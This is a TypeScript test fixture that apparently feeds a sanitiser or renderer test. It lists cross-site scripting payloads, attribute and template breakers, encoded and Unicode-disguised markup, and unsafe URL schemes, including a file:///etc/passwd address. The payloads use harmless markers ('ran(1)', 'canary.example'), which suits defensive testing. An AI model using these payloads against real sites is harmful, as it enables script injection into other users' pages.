/**
 * Texts that would run something, load something or become an element if a page took them for more than text. Whatever
 * they become bears `data-planted`; what runs calls `ran`; what is loaded comes from `canary.example`.
 */
const img = '<img data-planted src=x onerror=ran(1)>';
const script = '<script data-planted>ran(1)</script>';

const elements = [
  script,
  '<ScRiPt data-planted src=//canary.example/a.js></sCrIpT>',
  img,
  '<svg data-planted onload=ran(1)>',
  `<svg>${script}</svg>`,
  '<svg data-planted><animate onbegin=ran(1) attributeName=x></svg>',
  '<iframe data-planted srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<iframe data-planted src=javascript:parent.ran(1)></iframe>',
  '<object data-planted data=javascript:ran(1)></object>',
  '<embed data-planted src=data:text/html,canary>',
  '<details data-planted open ontoggle=ran(1)>',
  '<body data-planted onload=ran(1)>',
  '<input data-planted autofocus onfocus=ran(1)>',
  '<video data-planted><source onerror=ran(1)></video>',
  '<marquee data-planted onstart=ran(1)>',
  '<math data-planted><a xlink:href="javascript:ran(1)">x</a></math>',
  '<form data-planted action=javascript:ran(1)><button>x</button></form>',
  '<base data-planted href=https://canary.example/>',
  '<meta data-planted http-equiv=refresh content="0;url=javascript:ran(1)">',
  '<link data-planted rel=stylesheet href=https://canary.example/a.css>',
  '<style data-planted>@import "https://canary.example/b.css";</style>',
];

/** Out of an attribute, a script, a title, a comment that the text may stand in. */
const breakers = [
  `">${img}`,
  `'>${img}`,
  '" onmouseover="ran(1)" data-planted="',
  "' autofocus onfocus='ran(1)' data-planted='",
  '` onerror=ran(1) data-planted=`',
  `</script>${script}`,
  `</title></textarea></style>${img}`,
  `-->${img}`,
  `';ran(1);//`,
];

/** For programs that fill in blanks, follow links or read Markdown. */
const templates = [
  "{{constructor.constructor('ran(1)')()}}",
  `\${ran(1)}`,
  '<%= ran(1) %>',
  '$t(common:loading) {{name}}',
  `{"__html":"${img.replaceAll('"', '')}"}`,
  'javascript:ran(1)',
  ' JaVaScRiPt:ran(1)',
  '[x](javascript:ran(1))',
  '![x](https://canary.example/i.png)',
  '<a data-planted href="javascript:ran(1)">x</a>',
  'data:text/html,<script>parent.ran(1)</script>',
  'vbscript:ran(1)',
  'https://masar.example/"onclick="ran(1)"data-planted="',
];

/** Markup only after a person has decoded, repaired or turned it. */
const disguises = [
  '&lt;img data-planted src=x onerror=ran(1)&gt;',
  '&#x3c;img data-planted src=x onerror=ran(1)&#x3e;',
  'java&#x73;cript:ran(1)',
  '\\u003cimg data-planted src=x onerror=ran(1)\\u003e',
  '%3Cimg%20data-planted%20src=x%20onerror=ran(1)%3E',
  '+ADw-script data-planted+AD4-ran(1)+ADw-/script+AD4-',
  `\u202e${img}\u202c`,
  `<noscript><p title="</noscript>${img}">`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-planted src=x onerror=ran(1)&gt;">',
  `<svg></p><style><a id="</style>${img}">`,
  '＜img data-planted src=x onerror=ran(1)＞',
];

export const payloads: string[] = [...elements, ...breakers, ...templates, ...disguises];

/** All of them. */
export const allAtOnce = payloads.join('\n');
/** Each of a length that every field for long texts takes. */
export const halves = [payloads.slice(0, payloads.length / 2), payloads.slice(payloads.length / 2)].map(
  (half) => half.join('\n'),
);

const run = 'ran(1)';
/** Addresses that run something or show another person's page as ours, should anybody follow them. */
export const unsafeAddresses: string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `java\nscript:${run}`,
  `java\tscript:${run}`,
  `java\r\nscript:${run}`,
  `java\u0000script:${run}`,
  `javascript\n:${run}`,
  `javascript :${run}`,
  `javascript://masar.example/%0a${run}`,
  `javascript:/*https://masar.example/*/${run}`,
  `javascript&colon;${run}`,
  `java&#115;cript:${run}`,
  `&#x6a;avascript:${run}`,
  `%6aavascript:${run}`,
  `ｊavascript:${run}`,
  `view-source:javascript:${run}`,
  `vbscript:${run}`,
  'data:text/html,<script>parent.ran(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+',
  'DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran(1)"/>',
  'blob:https://masar.example/1',
  'file:///etc/passwd',
  'filesystem:https://masar.example/1',
  'feed:javascript:ran(1)',
  'jar:javascript:ran(1)',
  'about:blank',
  'intent://masar.example#Intent;end',
  'ms-office:ofe|u|https://masar.example/a.docm',
  '//canary.example/',
  '/\\canary.example/',
  '\\\\canary.example\\a',
];
